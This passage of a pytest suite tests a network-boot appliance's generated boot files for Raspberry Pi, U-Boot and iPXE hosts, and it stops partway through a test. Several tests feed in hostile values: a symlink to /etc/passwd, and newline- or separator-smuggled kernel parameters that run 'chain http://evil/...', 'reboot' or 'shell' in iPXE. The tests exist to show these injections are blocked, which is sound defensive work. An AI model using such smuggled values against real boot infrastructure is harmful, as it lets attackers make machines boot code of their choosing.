"""Boot trees (README: Boot trees): golden checks of what each kind of host is served."""

from __future__ import annotations

import builtins
import contextlib
import io
import os
import shutil
import socket
import struct
import subprocess
import time
import zlib
from pathlib import Path
from unittest import mock

import pytest

from appliance.boot import Generated, StoreFile, gather_inputs, render_tree
from appliance.config import parse_config
from appliance.control.state_model import HostState, Trial
from appliance.control.snapshot import build_host_snapshot
from appliance.demo.store import add_generation, edit_bootspec, make_firmware, make_toplevel
from appliance.errors import ConfigError, UnknownGeneration
from appliance.nix import read_profile
from appliance.boot.gather import store_roots

RPI_PARAMS = ("console=ttyAMA0,115200", "loglevel=4")
PI_CMDLINE = "ip=dhcp root=/dev/disk/by-label/PIROOT rootfstype=ext4 rootwait"
DTBS = ("broadcom/bcm2711-rpi-4-b.dtb", "broadcom/bcm2711-rpi-400.dtb")


@pytest.fixture(scope="module")
def firmware(tmp_path_factory) -> Path:
    """A Pi firmware package (its own allowed root), plus files that must never be served."""
    root = Path(os.path.realpath(tmp_path_factory.mktemp("fwstore")))
    boot = make_firmware(root)
    (boot / "config.txt").write_text("arm_64bit=0\n")
    (boot / "kernel7l.img").write_bytes(b"firmware 32-bit kernel")
    (boot / "kernel_2712.img").write_bytes(b"firmware pi5 kernel")
    (boot / "start4cd.elf").write_bytes(b"cut-down firmware")
    os.symlink("/etc/passwd", boot / "start4db.elf")  # escapes every root: never served
    return boot


class Env:
    """A store, a profile and a config for one host."""

    def __init__(self, root: Path, firmware: Path, boot: str, **host: object) -> None:
        self.root = root
        self.store = root / "store"
        self.store.mkdir(exist_ok=True)
        self.profile = root / "profiles" / "h"
        self.profile.parent.mkdir(parents=True, exist_ok=True)
        self.host_table = {"boot": boot, "mac": "dc:a6:32:01:02:03", "profile": str(self.profile), **host}
        if boot in ("rpi", "rpi5"):
            self.host_table.setdefault("cmdline", PI_CMDLINE)
        self.firmware = firmware
        self.tops: dict[int, Path] = {}
        self.server: dict[str, object] = {}
        self.dhcp: dict[str, object] = {}
        self.firmware_tables: dict[str, Path] = {}

    def add(self, version: str, number: int | None = None, current: bool = True, **kw) -> int:
        kw.setdefault("kernel_size", 4096)
        kw.setdefault("initrd_size", 8192)
        kw.setdefault("kernel_params", RPI_PARAMS)
        top = make_toplevel(self.store, "h", version, **kw)
        n = add_generation(self.profile, top, number=number, make_current=current)
        self.tops[n] = top
        return n

    @property
    def config(self):
        return parse_config({
            "server": {"store_dir": str(self.store), "state_dir": str(self.root / "state"), **self.server},
            "firmware": {"rpi": {"path": str(self.firmware)},
                         **{k: {"path": str(v)} for k, v in self.firmware_tables.items()}},
            "hosts": {"h": self.host_table},
            **({"dhcp": self.dhcp} if self.dhcp else {}),
        })

    def snapshot(self, choice: HostState = HostState(), generation: int | None = None):
        config = self.config
        return build_host_snapshot(config, config.host("h"), choice, generation=generation)

    def tree(self, choice: HostState = HostState()):
        return self.snapshot(choice).tree


def remove(link: Path) -> None:
    """Delete the store file a toplevel link points to (boot.json names it too)."""
    os.unlink(os.path.realpath(link))


def data(source) -> bytes:
    if isinstance(source, Generated):
        return source.data
    assert isinstance(source, StoreFile)
    return source.path.read_bytes()


@pytest.fixture
def env_factory(tmp_path, firmware):
    root = Path(os.path.realpath(tmp_path))

    def make(boot: str, **host) -> Env:
        return Env(root, firmware, boot, **host)

    return make


# -- rpi -----------------------------------------------------------------------------------


def test_rpi_cmdline_txt_is_exact(env_factory):
    env = env_factory("rpi")
    env.add("1")
    n = env.add("2")
    tree = env.tree()
    top = env.tops[n]
    expected = f"init={top}/init console=ttyAMA0,115200 loglevel=4 {PI_CMDLINE}\n".encode()
    assert data(tree.files["dc-a6-32-01-02-03/cmdline.txt"]) == expected
    assert tree.generation == 2


def test_rpi_cmdline_txt_for_a_legacy_generation(env_factory):
    env = env_factory("rpi", cmdline="ip=dhcp   rootwait")
    n = env.add("1", bootspec=False, kernel_params=("console=serial0,115200", "8250.nr_uarts=1", "cma=64M"))
    top = env.tops[n]
    (top / "kernel-params").write_text("console=serial0,115200 8250.nr_uarts=1 cma=64M\n")
    assert data(env.tree().files["dc-a6-32-01-02-03/cmdline.txt"]) == (
        # The host's cmdline is kept verbatim (quoted values may hold spaces).
        f"init={top}/init console=serial0,115200 8250.nr_uarts=1 cma=64M ip=dhcp   rootwait\n".encode())


def test_rpi_config_txt(env_factory):
    env = env_factory("rpi", config_txt=["dtoverlay=vc4-fkms-v3d", "max_framebuffers=2", "gpu_mem=128"])
    env.add("1")
    text = data(env.tree().files["dc-a6-32-01-02-03/config.txt"]).decode()
    assert text.endswith("\n")
    lines = [line for line in text.splitlines() if line and not line.startswith("#")]
    assert lines == ["arm_64bit=1", "kernel=kernel8.img", "initramfs initrd followkernel", "enable_uart=1",
                     "dtoverlay=vc4-fkms-v3d", "max_framebuffers=2", "gpu_mem=128"]


def test_rpi_serves_generation_kernel_and_initrd_not_the_firmwares(env_factory, firmware):
    env = env_factory("rpi")
    n = env.add("1", kernel_data=b"GENERATION KERNEL " * 100, initrd_data=b"GENERATION INITRD " * 100)
    files = env.tree().files
    p = "dc-a6-32-01-02-03/"
    assert data(files[p + "kernel8.img"]) == b"GENERATION KERNEL " * 100
    assert data(files[p + "kernel8.img"]) == (env.tops[n] / "kernel").read_bytes()
    assert data(files[p + "initrd"]) == b"GENERATION INITRD " * 100
    assert data(files[p + "kernel8.img"]) != (firmware / "kernel8.img").read_bytes()
    assert data(files[p + "cmdline.txt"]) != (firmware / "cmdline.txt").read_bytes()
    assert data(files[p + "config.txt"]) != (firmware / "config.txt").read_bytes()
    # Served store files are resolved paths inside an allowed root.
    assert files[p + "kernel8.img"].path.is_relative_to(env.store)


def test_rpi_firmware_blobs_and_what_is_withheld(env_factory, firmware):
    env = env_factory("rpi")
    env.add("1")
    files = env.tree().files
    p = "dc-a6-32-01-02-03/"
    for name in ("start4.elf", "fixup4.dat", "start4x.elf", "fixup4x.dat", "start4cd.elf", "bootcode.bin",
                 "overlays/vc4-kms-v3d.dtbo", "overlays/vc4-fkms-v3d.dtbo", "overlays/disable-bt.dtbo"):
        assert data(files[p + name]) == (firmware / name).read_bytes(), name
    for name in ("pieeprom.upd", "pieeprom.sig", "recovery.bin", "kernel7l.img", "kernel_2712.img",
                 "start4db.elf"):
        assert p + name not in files, name
    assert not any("passwd" in str(getattr(s, "path", "")) for s in files.values())
    # Nothing outside the host's directory for an rpi host.
    assert all(path.startswith(p) for path in files)


def test_rpi_eeprom_files_only_when_allowed(env_factory, firmware):
    env = env_factory("rpi", allow_eeprom_update=True)
    env.add("1")
    files = env.tree().files
    for name in ("pieeprom.upd", "pieeprom.sig", "recovery.bin"):
        assert data(files["dc-a6-32-01-02-03/" + name]) == (firmware / name).read_bytes()
    assert "dc-a6-32-01-02-03/kernel7l.img" not in files


def test_rpi_dtbs_from_the_generation_win(env_factory, firmware):
    env = env_factory("rpi")
    n = env.add("1", dtbs=DTBS)
    files = env.tree().files
    p = "dc-a6-32-01-02-03/"
    for dtb in ("bcm2711-rpi-4-b.dtb", "bcm2711-rpi-400.dtb"):
        assert data(files[p + dtb]) == (env.tops[n] / "dtbs" / "broadcom" / dtb).read_bytes()
        assert data(files[p + dtb]) != (firmware / dtb).read_bytes()
    # A device tree the generation lacks still comes from the firmware.
    assert data(files[p + "bcm2711-rpi-cm4.dtb"]) == (firmware / "bcm2711-rpi-cm4.dtb").read_bytes()


def test_rpi_dtbs_from_firmware_without_generation_dtbs(env_factory, firmware):
    env = env_factory("rpi")
    env.add("1")
    files = env.tree().files
    assert data(files["dc-a6-32-01-02-03/bcm2711-rpi-400.dtb"]) == (firmware / "bcm2711-rpi-400.dtb").read_bytes()


def test_rpi_every_kept_generation_is_addressable(env_factory):
    env = env_factory("rpi")
    for v in ("1", "2", "3"):
        env.add(v, dtbs=DTBS, kernel_data=f"kernel {v}".encode())
    remove(env.tops[2] / "kernel")  # generation 2 is broken: not kept
    files = env.tree().files
    p = "dc-a6-32-01-02-03/generations/"
    for n in (1, 3):
        assert data(files[f"{p}{n}/kernel8.img"]) == f"kernel {n}".encode()
        assert data(files[f"{p}{n}/initrd"]) == (env.tops[n] / "initrd").read_bytes()
        assert data(files[f"{p}{n}/cmdline.txt"]).startswith(f"init={env.tops[n]}/init ".encode())
        assert data(files[f"{p}{n}/dtbs/broadcom/bcm2711-rpi-400.dtb"]) == (
            env.tops[n] / "dtbs" / "broadcom" / "bcm2711-rpi-400.dtb").read_bytes()
    assert not any(path.startswith(f"{p}2/") for path in files)


def test_rpi_pin_selects_what_the_top_level_serves(env_factory):
    env = env_factory("rpi")
    for v in ("1", "2"):
        env.add(v, kernel_data=f"kernel {v}".encode())
    tree = env.tree(HostState(pin=1))
    assert tree.generation == 1
    assert data(tree.files["dc-a6-32-01-02-03/kernel8.img"]) == b"kernel 1"
    assert data(tree.files["dc-a6-32-01-02-03/cmdline.txt"]).startswith(f"init={env.tops[1]}/init ".encode())
    # The other generation is still addressable.
    assert data(tree.files["dc-a6-32-01-02-03/generations/2/kernel8.img"]) == b"kernel 2"
    # And an explicit generation renders that one (netboot tree -g N).
    snap = env.snapshot(generation=2)
    assert data(snap.tree.files["dc-a6-32-01-02-03/kernel8.img"]) == b"kernel 2"
    with pytest.raises(UnknownGeneration):
        env.snapshot(generation=5)


@pytest.mark.parametrize("host, prefix", [
    ({"tftp_prefix": "serial", "serial": "9FFEFDEF"}, "9ffefdef/"),
    ({"tftp_prefix": "pi-desktop"}, "pi-desktop/"),
    ({"tftp_prefix": "boards/rack1/pi/"}, "boards/rack1/pi/"),
])
def test_rpi_prefixes(env_factory, host, prefix):
    env = env_factory("rpi", **host)
    env.add("1")
    files = env.tree().files
    assert all(path.startswith(prefix) for path in files)
    for name in ("kernel8.img", "initrd", "cmdline.txt", "config.txt", "start4.elf", "generations/1/kernel8.img"):
        assert prefix + name in files


def test_rpi_without_generation_serves_firmware_only(env_factory, firmware):
    env = env_factory("rpi")
    snap = env.snapshot()
    assert snap.selection.generation is None
    files = snap.tree.files
    assert snap.tree.generation is None
    names = {p.removeprefix("dc-a6-32-01-02-03/") for p in files}
    assert "start4.elf" in names and "overlays/disable-bt.dtbo" in names
    assert not names & {"kernel8.img", "initrd", "cmdline.txt", "config.txt"}
    assert not any(n.startswith("generations/") for n in names)
    assert all(isinstance(s, StoreFile) and s.path.is_relative_to(firmware) for s in files.values())


def test_rpi_only_broken_generations_serve_firmware_only(env_factory):
    env = env_factory("rpi")
    env.add("1")
    remove(env.tops[1] / "init")
    tree = env.tree()
    assert tree.generation is None
    assert "dc-a6-32-01-02-03/kernel8.img" not in tree.files


# -- rpi5 ----------------------------------------------------------------------------------

PI5_DTBS = ("broadcom/bcm2712-rpi-5-b.dtb", "broadcom/bcm2712-rpi-500.dtb")


def test_rpi5_config_txt_names_the_pi5_kernel_and_no_firmware_stage(env_factory):
    env = env_factory("rpi5", config_txt=["dtoverlay=vc4-kms-v3d"])
    env.add("1")
    text = data(env.tree().files["dc-a6-32-01-02-03/config.txt"]).decode()
    lines = [line for line in text.splitlines() if line and not line.startswith("#")]
    assert lines == ["kernel=kernel_2712.img", "initramfs initrd followkernel", "enable_uart=1",
                     "dtoverlay=vc4-kms-v3d"]


def test_rpi5_tree_from_the_generation_and_firmware(env_factory, firmware):
    env = env_factory("rpi5")
    n = env.add("1", kernel_data=b"PI5 KERNEL " * 100, dtbs=PI5_DTBS)
    files = env.tree().files
    p = "dc-a6-32-01-02-03/"
    assert data(files[p + "kernel_2712.img"]) == b"PI5 KERNEL " * 100
    assert data(files[p + "kernel_2712.img"]) != (firmware / "kernel_2712.img").read_bytes()
    assert data(files[p + "initrd"]) == (env.tops[n] / "initrd").read_bytes()
    assert data(files[p + "cmdline.txt"]) == f"init={env.tops[n]}/init {' '.join(RPI_PARAMS)} {PI_CMDLINE}\n".encode()
    # The generation's device trees win; the firmware supplies the rest of the BCM2712 boards.
    for dtb in ("bcm2712-rpi-5-b.dtb", "bcm2712-rpi-500.dtb"):
        assert data(files[p + dtb]) == (env.tops[n] / "dtbs" / "broadcom" / dtb).read_bytes()
    for dtb in ("bcm2712-rpi-cm5-cm5io.dtb", "bcm2712d0-rpi-5-b.dtb", "overlays/vc4-kms-v3d.dtbo"):
        assert data(files[p + dtb]) == (firmware / dtb).read_bytes()
    # No VideoCore firmware stage, no Pi 4 files, no EEPROM images.
    for name in ("start4.elf", "fixup4.dat", "start4x.elf", "bootcode.bin", "kernel8.img", "bcm2711-rpi-4-b.dtb",
                 "pieeprom.upd", "pieeprom.sig", "recovery.bin", "start4db.elf"):
        assert p + name not in files, name
    assert data(files[f"{p}generations/{n}/kernel_2712.img"]) == b"PI5 KERNEL " * 100
    assert data(files[f"{p}generations/{n}/cmdline.txt"]) == data(files[p + "cmdline.txt"])
    assert all(path.startswith(p) for path in files)


@pytest.mark.parametrize("boot, default_kernel", [("rpi", "kernel8.img"), ("rpi5", "kernel_2712.img")])
def test_pi_kernel_line_names_the_served_kernel(env_factory, boot, default_kernel):
    """A Pi loads the last kernel= of config.txt: that name is the one served."""
    env = env_factory(boot, config_txt=["kernel=Image-nixos"])
    n = env.add("1", kernel_data=b"K")
    snap = env.snapshot()
    files = snap.tree.files
    p = "dc-a6-32-01-02-03/"
    assert data(files[p + "Image-nixos"]) == b"K" and p + default_kernel not in files
    style = snap.host.boot
    assert style.kernel_paths(snap.host, n) == {p + "Image-nixos", f"{p}generations/{n}/Image-nixos"}
    lines = [line for line in data(files[p + "config.txt"]).decode().splitlines() if line.startswith("kernel=")]
    assert lines[-1] == "kernel=Image-nixos"
    assert style.starts_boot(snap.host, p + "config.txt")
    assert style.starts_boot(snap.host, p + "start4.elf") == (boot == "rpi")


@pytest.mark.parametrize("line", ["kernel=boot/Image", "kernel=config.txt", "kernel="])
def test_rpi5_kernel_line_must_name_a_plain_file(env_factory, line):
    env = env_factory("rpi5", config_txt=[line])
    with pytest.raises(ConfigError) as exc:
        env.config
    assert "hosts.h.config_txt" in str(exc.value)


def test_rpi5_needs_the_pi_firmware(tmp_path):
    with pytest.raises(ConfigError) as exc:
        parse_config({"hosts": {"h": {"boot": "rpi5", "mac": "2c:cf:67:01:02:03", "profile": "/p"}}})
    assert "hosts.h.firmware" in str(exc.value) and "rpi5" in str(exc.value)


@pytest.mark.parametrize("host, prefix", [
    ({"tftp_prefix": "serial", "serial": "9FFEFDEF"}, "9ffefdef/"),
    ({"tftp_prefix": "pi5"}, "pi5/"),
    ({}, "dc-a6-32-01-02-03/"),
])
def test_rpi5_prefixes_are_the_pi4s(env_factory, host, prefix):
    env = env_factory("rpi5", **host)
    env.add("1")
    files = env.tree().files
    assert all(path.startswith(prefix) for path in files)
    for name in ("kernel_2712.img", "initrd", "cmdline.txt", "config.txt", "bcm2712-rpi-5-b.dtb",
                 "generations/1/kernel_2712.img"):
        assert prefix + name in files


@contextlib.contextmanager
def io_forbidden():
    """Every file system, socket and clock entry point raises while inside."""
    def refuse(*args, **kwargs):
        raise AssertionError(f"I/O during rendering: {args!r:.200}")

    names = [(builtins, "open"), (io, "open"), (os, "open"), (os, "stat"), (os, "lstat"), (os, "listdir"),
             (os, "scandir"), (os, "readlink"), (os, "access"), (socket, "socket"), (time, "time"),
             (time, "monotonic")]
    with contextlib.ExitStack() as stack:
        for module, name in names:
            stack.enter_context(mock.patch.object(module, name, refuse))
        yield


@pytest.mark.parametrize("boot", ["rpi", "rpi5", "uboot", "ipxe"])
def test_render_tree_is_pure_and_repeatable(env_factory, boot):
    """Rendering reads only its inputs: with I/O refused and the generations deleted from disk it
    renders the same tree, twice."""
    env = env_factory(boot, **({"cmdline": "ip=dhcp"} if boot in ("uboot", "ipxe") else {}))
    env.add("1", dtbs=DTBS)
    env.add("2")
    config = env.config
    host = config.host("h")
    roots = store_roots(config)
    profile = read_profile(host.profile, roots)
    inputs = gather_inputs(config, host, profile.get(2), profile.valid, roots)
    expected = render_tree(inputs)
    generated = {p: s.data for p, s in expected.files.items() if isinstance(s, Generated)}
    assert expected.generation == 2 and generated
    shutil.rmtree(env.store)
    shutil.rmtree(env.profile.parent)
    with io_forbidden():
        a, b = render_tree(inputs), render_tree(inputs)
    assert a.files == b.files == expected.files
    assert {p: s.data for p, s in a.files.items() if isinstance(s, Generated)} == generated
    assert a.generation == 2


# -- uboot -----------------------------------------------------------------------------------


UBOOT_MAC = "52:54:00:12:34:56"
MENU = "pxelinux.cfg/01-52-54-00-12-34-56"


def uboot_env(env_factory, **host):
    return env_factory("uboot", mac=UBOOT_MAC, cmdline="ip=dhcp", menu_timeout=3, **host)


def menu_entries(text: str) -> tuple[dict[str, str], list[tuple[str, list[str]]]]:
    """Global lines (key → value) and entries (label, [lines]) of a pxelinux menu."""
    header: dict[str, str] = {}
    entries: list[tuple[str, list[str]]] = []
    for raw in text.splitlines():
        line = raw.strip()
        if not line or line.startswith("#"):
            continue
        key, _, value = line.partition(" ")
        if key == "LABEL":
            entries.append((value, []))
        elif entries:
            entries[-1][1].append(line)
        else:
            header[key] = value
    return header, entries


def test_uboot_menu_one_entry_per_valid_generation_newest_first(env_factory):
    env = uboot_env(env_factory)
    for v in ("1", "2", "3", "4"):
        env.add(v, dtbs=DTBS if v != "4" else (), kernel_params=("console=ttyS0,115200",))
    remove(env.tops[3] / "initrd")  # invalid: no entry
    env.profile.unlink()
    os.symlink("h-2-link", env.profile)  # the profile points at 2
    tree = env.tree()
    header, entries = menu_entries(data(tree.files[MENU]).decode())
    assert header["DEFAULT"] == "nixos-2"
    assert header["TIMEOUT"] == "30"
    assert [label for label, _ in entries] == ["nixos-4", "nixos-2", "nixos-1"]
    body = dict(entries)
    for n in (1, 2):
        assert body[f"nixos-{n}"][1:] == [
            f"LINUX /52-54-00-12-34-56/generations/{n}/kernel",
            f"INITRD /52-54-00-12-34-56/generations/{n}/initrd",
            f"FDTDIR /52-54-00-12-34-56/generations/{n}/dtbs",
            f"APPEND init={env.tops[n]}/init console=ttyS0,115200 ip=dhcp",
        ]
        assert body[f"nixos-{n}"][0].startswith("MENU LABEL ")
        assert str(n) in body[f"nixos-{n}"][0]
    # Without dtbs there is no FDTDIR line.
    assert body["nixos-4"][1:] == [
        "LINUX /52-54-00-12-34-56/generations/4/kernel",
        "INITRD /52-54-00-12-34-56/generations/4/initrd",
        f"APPEND init={env.tops[4]}/init console=ttyS0,115200 ip=dhcp",
    ]
    # The paths the menu names exist in the tree with the right contents.
    for n in (1, 2, 4):
        assert data(tree.files[f"52-54-00-12-34-56/generations/{n}/kernel"]) == (env.tops[n] / "kernel").read_bytes()
        assert data(tree.files[f"52-54-00-12-34-56/generations/{n}/initrd"]) == (env.tops[n] / "initrd").read_bytes()
    assert "52-54-00-12-34-56/generations/1/dtbs/broadcom/bcm2711-rpi-400.dtb" in tree.files


def test_uboot_pin_changes_the_default(env_factory):
    env = uboot_env(env_factory)
    for v in ("1", "2", "3"):
        env.add(v)
    header, entries = menu_entries(data(env.tree().files[MENU]).decode())
    assert header["DEFAULT"] == "nixos-3"
    header, entries = menu_entries(data(env.tree(HostState(pin=1)).files[MENU]).decode())
    assert header["DEFAULT"] == "nixos-1"
    assert [label for label, _ in entries] == ["nixos-3", "nixos-2", "nixos-1"]
    header, _ = menu_entries(data(env.tree(HostState(pin=1, trial=Trial(2, None, 0.0))).files[MENU]).decode())
    assert header["DEFAULT"] == "nixos-2"


def test_uboot_literal_prefix_in_menu_paths(env_factory):
    env = uboot_env(env_factory, tftp_prefix="arm")
    env.add("1")
    files = env.tree().files
    _, entries = menu_entries(data(files[MENU]).decode())
    assert "LINUX /arm/generations/1/kernel" in entries[0][1]
    assert "arm/generations/1/kernel" in files


def uimage_header(blob: bytes) -> dict:
    magic, hcrc, time_, size, load, ep, dcrc, os_, arch, typ, comp = struct.unpack(">IIIIIIIBBBB", blob[:32])
    return dict(magic=magic, hcrc=hcrc, time=time_, size=size, dcrc=dcrc, os=os_, arch=arch, type=typ, comp=comp,
                name=blob[32:64].rstrip(b"\0").decode())


def test_uboot_boot_script_is_a_valid_uimage(env_factory):
    env = uboot_env(env_factory)
    env.add("1")
    files = env.tree().files
    blob = data(files["boot.scr.uimg"])
    assert data(files["52-54-00-12-34-56/boot.scr.uimg"]) == blob
    h = uimage_header(blob)
    assert h["magic"] == 0x27051956
    assert h["size"] == len(blob) - 64
    assert h["dcrc"] == zlib.crc32(blob[64:])
    assert h["hcrc"] == zlib.crc32(blob[:4] + b"\0\0\0\0" + blob[8:64])
    assert (h["os"], h["arch"], h["type"], h["comp"]) == (5, 22, 6, 0)  # linux, arm64, script, none
    # Multi-file payload: one length, a zero terminator, then the script.
    length, zero = struct.unpack(">II", blob[64:72])
    assert zero == 0 and length == len(blob) - 72
    script = blob[72:].decode()
    assert "pxe get" in script and "pxe boot" in script


def test_uboot_boot_script_matches_mkimage(env_factory, tmp_path):
    mkimage, dumpimage = shutil.which("mkimage"), shutil.which("dumpimage")
    if not (mkimage and dumpimage):
        pytest.skip("u-boot-tools (mkimage, dumpimage) not installed")
    env = uboot_env(env_factory)
    env.add("1")
    blob = data(env.tree().files["boot.scr.uimg"])
    name = uimage_header(blob)["name"]
    assert name == "netboot h"
    ours = tmp_path / "ours.uimg"
    ours.write_bytes(blob)
    listing = subprocess.run([dumpimage, "-l", str(ours)], capture_output=True, text=True, check=True).stdout
    assert "Script" in listing and "GP Header" not in listing, listing
    assert f"Image Name:   {name}" in listing
    script = tmp_path / "script.txt"
    script.write_bytes(blob[72:])
    theirs = tmp_path / "theirs.uimg"
    subprocess.run([mkimage, "-A", "arm64", "-O", "linux", "-T", "script", "-C", "none", "-n", name,
                    "-d", str(script), str(theirs)], check=True, capture_output=True,
                   env={**os.environ, "SOURCE_DATE_EPOCH": "0"})
    assert theirs.read_bytes() == blob


def test_uboot_without_generation_serves_nothing(env_factory):
    env = uboot_env(env_factory)
    assert env.tree().files == {}
    env.add("1")
    remove(env.tops[1] / "kernel")
    assert env.tree().files == {}


# -- ipxe ------------------------------------------------------------------------------------


IPXE_MAC = "52:54:00:ab:cd:ef"


def ipxe_env(env_factory, **host):
    return env_factory("ipxe", mac=IPXE_MAC, cmdline="ip=dhcp", menu_timeout=3, **host)


def test_ipxe_script(env_factory):
    env = ipxe_env(env_factory)
    for v in ("1", "2", "3"):
        env.add(v, kernel_params=("console=ttyS0,115200",))
    files = env.tree(HostState(pin=2)).files
    script = data(files["52-54-00-ab-cd-ef/boot.ipxe"])
    assert data(files["boot.ipxe"]) == script
    lines = script.decode().splitlines()
    assert lines[0] == "#!ipxe"
    items = [line.split()[1] for line in lines if line.startswith("item ") and not line.startswith("item --")]
    assert items == ["nixos-3", "nixos-2", "nixos-1"]
    choose = [line for line in lines if line.startswith("choose ")]
    assert len(choose) == 1
    assert "--default nixos-2 --timeout 3000" in choose[0]
    for n in (1, 2, 3):
        start = lines.index(f":nixos-{n}")
        block = lines[start:lines.index("boot", start) + 1]
        d = f"/52-54-00-ab-cd-ef/generations/{n}"
        assert f"kernel {d}/kernel initrd=initrd init={env.tops[n]}/init console=ttyS0,115200 ip=dhcp" in block
        assert f"initrd --name initrd {d}/initrd" in block
        assert data(files[f"52-54-00-ab-cd-ef/generations/{n}/kernel"]) == (env.tops[n] / "kernel").read_bytes()


@pytest.mark.parametrize("http_listen, base", [
    (["0.0.0.0:8080", "10.0.4.3:80"], "http://${next-server}:8080"),
    (["10.0.4.3"], "http://10.0.4.3:80"),
    (["[fd00::3]:8080"], "http://[fd00::3]:8080"),
])
def test_ipxe_loads_kernel_and_initrd_over_http_when_enabled(env_factory, http_listen, base):
    env = ipxe_env(env_factory)
    env.add("1")
    without = data(env.tree().files["boot.ipxe"]).decode()
    assert "http://" not in without and "kernel /52-54-00-ab-cd-ef/generations/1/kernel " in without
    env.server["http_listen"] = http_listen
    files = env.tree().files
    lines = data(files["boot.ipxe"]).decode().splitlines()
    d = f"{base}/52-54-00-ab-cd-ef/generations/1"
    assert any(line.startswith(f"kernel {d}/kernel initrd=initrd init=") for line in lines)
    assert f"initrd --name initrd {d}/initrd" in lines
    # the URLs name files of the tree itself (the same tree HTTP serves)
    assert "52-54-00-ab-cd-ef/generations/1/kernel" in files and "52-54-00-ab-cd-ef/generations/1/initrd" in files


def test_ipxe_http_urls_name_the_proxydhcp_server_address_not_next_server(env_factory):
    # With the router doing DHCP and the proxy the boot options, iPXE's ${next-server} is the
    # router's siaddr (dnsmasq puts its own address there), not the appliance: real iPXE
    # fetched the kernel from the router.  The proxy's server_address is where clients reach us.
    env = ipxe_env(env_factory)
    env.add("1")
    env.server["http_listen"] = ["0.0.0.0:8080"]
    env.dhcp.update({"enable": True, "interface": "eth0", "server_address": "10.0.4.3"})
    text = data(env.tree().files["boot.ipxe"]).decode()
    assert "${next-server}" not in text
    assert "initrd --name initrd http://10.0.4.3:8080/52-54-00-ab-cd-ef/generations/1/initrd" in text.splitlines()


def test_ipxe_default_follows_the_profile(env_factory):
    env = ipxe_env(env_factory)
    env.add("1")
    env.add("2")
    text = data(env.tree().files["boot.ipxe"]).decode()
    assert "choose --default nixos-2 " in text


def test_ipxe_without_generation_serves_nothing(env_factory):
    env = ipxe_env(env_factory)
    assert env.tree().files == {}


# -- menu_timeout = 0: the default boots at once ------------------------------------------


def test_ipxe_menu_timeout_zero_boots_the_default_without_a_menu(env_factory):
    # iPXE's ``choose --timeout 0`` waits for a key forever: no menu at all.
    env = env_factory("ipxe", mac=IPXE_MAC, cmdline="ip=dhcp", menu_timeout=0)
    for v in ("1", "2", "3"):
        env.add(v)
    lines = data(env.tree(HostState(pin=2)).files["boot.ipxe"]).decode().splitlines()
    commands = [line for line in lines if line and not line.startswith("#")]
    assert not [line for line in commands if line.split()[0] in ("menu", "item", "choose")]
    assert commands[0] == "goto nixos-2"
    for n in (1, 2, 3):                      # every generation stays addressable by label
        assert f":nixos-{n}" in lines


def test_uboot_menu_timeout_zero_never_renders_timeout_zero(env_factory):
    # TIMEOUT 0 means "wait forever" to syslinux and to U-Boot's pxe menu.
    env = env_factory("uboot", mac=UBOOT_MAC, cmdline="ip=dhcp", menu_timeout=0)
    env.add("1")
    env.add("2")
    header, entries = menu_entries(data(env.tree().files[MENU]).decode())
    assert header["TIMEOUT"] == "1"
    assert header["DEFAULT"] == "nixos-2"
    assert "PROMPT" not in header or header["PROMPT"] == "0"
    # A top-level MENU line makes U-Boot's pxe prompt ("Enter choice:") and wait for TIMEOUT.
    assert "MENU" not in header
    assert [label for label, _ in entries] == ["nixos-2", "nixos-1"]


def test_ipxe_host_with_ipxe_firmware_serves_the_network_boot_programs(env_factory, tmp_path):
    nbps = tmp_path / "ipxe"
    nbps.mkdir()
    for name in ("undionly.kpxe", "ipxe.efi", "snponly.efi", "ipxe.lkrn"):
        (nbps / name).write_bytes(name.encode())
    env = ipxe_env(env_factory)
    env.host_table["firmware"] = "fw"
    env.firmware_tables["fw"] = nbps
    env.add("1")
    files = env.tree().files
    for name in ("undionly.kpxe", "ipxe.efi", "snponly.efi"):
        assert data(files[f"52-54-00-ab-cd-ef/{name}"]) == name.encode()
    assert "52-54-00-ab-cd-ef/ipxe.lkrn" not in files


@pytest.mark.parametrize("boot", ["rpi", "rpi5"])
@pytest.mark.parametrize("line", ["kernel=boot/Image", "kernel=initrd", "initramfs initrd.img followkernel",
                                  "initramfs /initrd followkernel"])
def test_pi_config_txt_lines_naming_files_that_are_not_served_are_refused(env_factory, boot, line):
    env = env_factory(boot, config_txt=[line])
    with pytest.raises(ConfigError) as exc:
        env.config
    assert "hosts.h.config_txt" in str(exc.value)


# -- hostile generations: nothing a toplevel holds can add a line to a generated file ------------


GENERATED = {"rpi": ("dc-a6-32-01-02-03/cmdline.txt", "dc-a6-32-01-02-03/config.txt"),
             "uboot": ("pxelinux.cfg/01-52-54-00-ab-cd-ef",), "ipxe": ("boot.ipxe",)}


@pytest.mark.parametrize("boot", sorted(GENERATED))
def test_newlines_in_a_generation_never_reach_a_generated_file(env_factory, boot):
    """A bootspec label or kernel parameter with a newline would add a line of the attacker's
    choosing to boot.ipxe / the PXE menu / cmdline.txt.  The label is shown on one line; the
    generation with such a parameter is listed as invalid and the one before it is served."""
    host = {} if boot == "rpi" else {"mac": IPXE_MAC, "cmdline": "ip=dhcp"}
    env = env_factory(boot, **host)
    good = env.add("1")
    edit_bootspec(env.tops[good], label="NixOS 1\nchain http://evil/label")
    bad = env.add("2")
    edit_bootspec(env.tops[bad], kernelParams=["quiet\n:evil\nchain http://evil/params"])
    snap = env.snapshot()
    assert not snap.profile.get(bad).valid and snap.selection.number == good
    for path in GENERATED[boot]:
        text = data(snap.tree.files[path]).decode()
        assert not any(line.lstrip().startswith(("chain", ":evil")) for line in text.splitlines()), text
        if boot != "rpi":   # the menus show the label, on its line
            assert "generation 1: NixOS 1 chain http://evil/label (" in text


def ipxe_tokens(line: str) -> list[str]:
    """What iPXE's parser makes of a script line (ipxe src/core/exec.c): whitespace-split words."""
    return line.split()


def ipxe_acts_on(word: str) -> bool:
    """A word iPXE does not pass on as written: a command separator, a comment, a setting."""
    return word in ("||", "&&", ";") or word.startswith("#") or "${" in word


@pytest.mark.parametrize("params", [("quiet", "&&", "chain", "http://evil/x"), ("quiet", ";", "reboot"),
                                    ("quiet", "||", "shell"), ("quiet", "#rest-ignored", "root=x"),
                                    ("console=${console}",)])
def test_kernel_parameters_ipxe_would_act_on_are_not_served_to_an_ipxe_host(env_factory, params):
    """iPXE splits a script line at whitespace and runs what follows ``&&`` / ``;`` / ``||``
    as a command, drops words from ``#`` on, and expands ``${…}``: such a generation cannot be
    written into boot.ipxe as it is.  It is listed with the reason; the previous one is served.
    A Pi sharing the profile gets it verbatim in cmdline.txt, which nothing parses."""
    env = ipxe_env(env_factory)
    good = env.add("1")
